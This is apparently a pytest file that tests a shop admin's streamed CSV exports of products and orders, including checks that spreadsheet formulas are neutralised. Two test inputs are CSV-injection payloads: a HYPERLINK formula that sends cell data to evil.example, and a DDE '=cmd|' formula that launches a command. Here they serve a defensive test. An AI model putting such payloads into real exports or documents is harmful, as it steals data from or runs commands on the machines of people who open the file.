"""CSV exports: products (a row per variant) and orders in a date range, streamed."""

import csv
import io
from datetime import UTC, datetime

import pytest
from sqlalchemy import event, select

from app.audit.models import AuditLog
from app.catalog.service import VariantData
from app.extensions import db
from app.reports import exports
from tenants.models import Store
from tests.accounts_helpers import text
from tests.conftest import BACKENDS, sign_in_as
from tests.factories import add_member, make_category, make_product, make_user
from tests.web.order_helpers import make_order, make_variant, owner_of

EVIL_TITLE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")'


def _client(app, client_for, store, role: str = "owner"):
    client = client_for(store)
    if role == "owner":
        sign_in_as(client, owner_of(app, store))
    else:
        user = make_user(f"{role}-{store.slug}@example.com")
        add_member(store, user, role)
        sign_in_as(client, user)
    return client


def _rows(response) -> list[list[str]]:
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff"), "the file starts with a BOM for Excel"
    return list(csv.reader(io.StringIO(body[1:])))


def _by_header(rows: list[list[str]]) -> list[dict[str, str]]:
    header, *data = rows
    return [dict(zip(header, row, strict=True)) for row in data]


def _set_timezone(app, store, timezone: str) -> None:
    with app.app_context():
        db.session.get(Store, store.id).timezone = timezone
        db.session.commit()


# Products


def test_products_export_has_one_row_per_variant_and_neutralises_formulas(
    app, client_for, store_a, store_b
):
    hats = make_category(store_a, "Hats")
    make_product(
        store_a,
        EVIL_TITLE,
        option_names=["Size"],
        variants=[
            VariantData("TEE-S", 1999, ["S"], compare_at_price=2499, stock=3),
            VariantData("TEE-M", 1999, ["M"], stock=0),
            VariantData("-TEE-L", 2099, ["L"], stock=7, track_inventory=False),
        ],
        tags="summer, +cotton",
        categories=[hats],
    )
    make_product(store_b, "Bravo secret", variants=[VariantData("B-ONLY", 500, stock=1)])
    response = _client(app, client_for, store_a).get("/admin/exports/products.csv")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="alpha-products-') and ".csv" in disposition
    assert response.headers["Cache-Control"] == "no-store"
    rows = _by_header(_rows(response))
    assert len(rows) == 3
    assert {row["Product"] for row in rows} == {"'" + EVIL_TITLE}
    small, medium, large = rows
    assert small["SKU"] == "TEE-S" and small["Options"] == "Size: S"
    assert small["Price"] == "19.99" and small["Compare-at price"] == "24.99"
    assert small["Currency"] == "USD" and small["Stock"] == "3"
    assert small["Track inventory"] == "yes" and large["Track inventory"] == "no"
    assert medium["Stock"] == "0" and medium["Compare-at price"] == ""
    assert large["SKU"] == "'-TEE-L" and large["Price"] == "20.99"
    assert small["Categories"] == "Hats" and small["Status"] == "active"
    assert "summer" in small["Tags"]
    assert "B-ONLY" not in response.get_data(as_text=True)
    assert "Bravo secret" not in response.get_data(as_text=True)


def test_products_are_read_in_keyset_batches(app, client_for, store_a, monkeypatch):
    for index in range(5):
        make_product(store_a, f"Batch {index}", variants=[VariantData(f"B-{index}", 100 + index)])
    monkeypatch.setattr(exports, "BATCH_SIZE", 2)
    client = _client(app, client_for, store_a)
    statements = []

    def remember(conn, cursor, statement, parameters, context, executemany):
        if "FROM products" in statement and "LIMIT" in statement.upper():
            statements.append(statement)

    with app.app_context():
        engine = db.engine
    event.listen(engine, "before_cursor_execute", remember)
    try:
        response = client.get("/admin/exports/products.csv")
        assert response.is_streamed
        rows = _by_header(_rows(response))
    finally:
        event.remove(engine, "before_cursor_execute", remember)
    assert [row["SKU"] for row in rows] == [f"B-{index}" for index in range(5)]
    assert len(statements) == 4  # batches of 2, 2 and 1, then an empty one that ends it
    assert all("products.id >" in s for s in statements)


def test_csv_cells_are_neutralised():
    assert exports.safe_cell("=1+1") == "'=1+1"
    assert exports.safe_cell("+49 30 1234") == "'+49 30 1234"
    assert exports.safe_cell("-2") == "'-2"
    assert exports.safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert exports.safe_cell("\tcmd") == "'\tcmd"
    assert exports.safe_cell("Plain") == "Plain"
    assert exports.safe_cell(None) == "" and exports.safe_cell(True) == "yes"
    assert exports.safe_cell(12) == 12


# Orders


def _order(app, store, variant, when: datetime, **kwargs) -> dict:
    return make_order(app, store, variant, now=when, **kwargs)


def test_orders_export_filters_by_date_in_the_store_time_zone(app, client_for, store_a, store_b):
    _set_timezone(app, store_a, "Asia/Jakarta")  # UTC+7
    lamp = make_variant(store_a, "LAMP", 4500, stock=50)
    before = _order(app, store_a, lamp, datetime(2026, 2, 28, 16, 59, tzinfo=UTC))  # 23:59 local
    first = _order(
        app,
        store_a,
        lamp,
        datetime(2026, 2, 28, 17, 0, tzinfo=UTC),  # 1 March, 00:00 in Jakarta
        quantity=2,
        email="ana@example.com",
        name="=cmd|' /C calc'!A0",
        status="paid",
    )
    last = _order(app, store_a, lamp, datetime(2026, 3, 31, 16, 59, tzinfo=UTC))  # 23:59 local
    after = _order(app, store_a, lamp, datetime(2026, 3, 31, 17, 0, tzinfo=UTC))
    other = make_variant(store_b, "B-LAMP", 999, stock=5)
    _order(app, store_b, other, datetime(2026, 3, 10, 12, 0, tzinfo=UTC), email="b@example.com")

    client = _client(app, client_for, store_a, "manager")
    response = client.get("/admin/exports/orders.csv?from=2026-03-01&to=2026-03-31")
    assert response.status_code == 200 and response.is_streamed
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="alpha-orders-2026-03-01-to-2026-03-31.csv"'
    )
    rows = _by_header(_rows(response))
    numbers = [int(row["Order number"]) for row in rows]
    assert numbers == [first["number"], last["number"]]
    assert before["number"] not in numbers and after["number"] not in numbers
    row = rows[0]
    assert row["Placed at (Asia/Jakarta)"] == "2026-03-01 00:00:00"
    assert row["Status"] == "paid" and row["Email"] == "ana@example.com"
    assert row["Customer"] == "'=cmd|' /C calc'!A0"
    assert row["Currency"] == "USD" and row["Subtotal"] == "90.00"
    assert row["Total"] == f"{first['total'] / 100:.2f}"
    assert row["Item count"] == "2" and row["Items"] == "2 × Lamp LAMP [LAMP]"
    assert "b@example.com" not in response.get_data(as_text=True)
    with app.app_context():
        entry = db.session.scalar(select(AuditLog).where(AuditLog.action == "export.orders"))
        assert entry.details == {"date_from": "2026-03-01", "date_to": "2026-03-31"}
        assert entry.store_id == store_a.id


def test_orders_are_read_in_batches_with_their_lines(app, client_for, store_a, monkeypatch):
    lamp = make_variant(store_a, "LAMP", 1000, stock=50)
    placed = [
        _order(app, store_a, lamp, datetime(2026, 5, day, 9, 0, tzinfo=UTC), quantity=day)
        for day in range(1, 6)
    ]
    monkeypatch.setattr(exports, "BATCH_SIZE", 2)
    response = _client(app, client_for, store_a).get(
        "/admin/exports/orders.csv?from=2026-05-01&to=2026-05-05"
    )
    rows = _by_header(_rows(response))
    assert [int(r["Order number"]) for r in rows] == [o["number"] for o in placed]
    assert [r["Item count"] for r in rows] == ["1", "2", "3", "4", "5"]
    assert rows[0]["Placed at (UTC)"] == "2026-05-01 09:00:00"


def test_orders_export_without_dates_covers_this_month(app, client_for, store_a):
    lamp = make_variant(store_a, "LAMP", 1000, stock=5)
    now = _order(app, store_a, lamp, datetime.now(UTC))
    response = _client(app, client_for, store_a).get("/admin/exports/orders.csv")
    assert response.status_code == 200
    assert [int(r["Order number"]) for r in _by_header(_rows(response))] == [now["number"]]


@pytest.mark.backends("sqlite")  # validation
@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("from=2026-03-31&to=2026-03-01", "before the “from” date"),
        ("from=yesterday&to=2026-03-01", "must look like 2026-01-31"),
        ("from=2026-02-30&to=2026-03-01", "must look like 2026-01-31"),
        ("from=2026-01-01&to=31/01/2026", "“to” date must look like"),
        ("from=0001-01-01&to=2026-01-01", "between 1970 and 9998"),
        ("from=2026-01-01&to=9999-12-31", "between 1970 and 9998"),
        ("from=" + "9" * 500, "must look like"),
    ],
)
def test_a_bad_date_range_is_422_with_a_message_on_the_exports_page(
    app, client_for, store_a, query, message
):
    response = _client(app, client_for, store_a).get(f"/admin/exports/orders.csv?{query}")
    assert response.status_code == 422
    assert response.mimetype == "text/html"
    body = text(response)
    assert message in body and "Download orders CSV" in body
    with app.app_context():
        assert db.session.scalar(select(AuditLog).where(AuditLog.action == "export.orders")) is None


@pytest.mark.backends(*BACKENDS)  # this route's test on PostgreSQL (row-level security)
def test_the_exports_page_prefills_this_month(app, client_for, store_a):
    response = _client(app, client_for, store_a).get("/admin/exports/")
    assert response.status_code == 200
    today = datetime.now(UTC).date()
    body = text(response)
    assert f'value="{today.replace(day=1).isoformat()}"' in body
    assert f'value="{today.isoformat()}"' in body
    assert "/admin/exports/products.csv" in body


@pytest.mark.backends("sqlite")  # role refusals
@pytest.mark.parametrize(
    "path", ["/admin/exports/", "/admin/exports/products.csv", "/admin/exports/orders.csv"]
)
def test_staff_cannot_export(app, client_for, store_a, path):
    assert _client(app, client_for, store_a, "staff").get(path).status_code == 403
    # Buffered, so a streamed download is read to the end and releases its request context.
    manager = _client(app, client_for, store_a, "manager")
    assert manager.get(path, buffered=True).status_code == 200
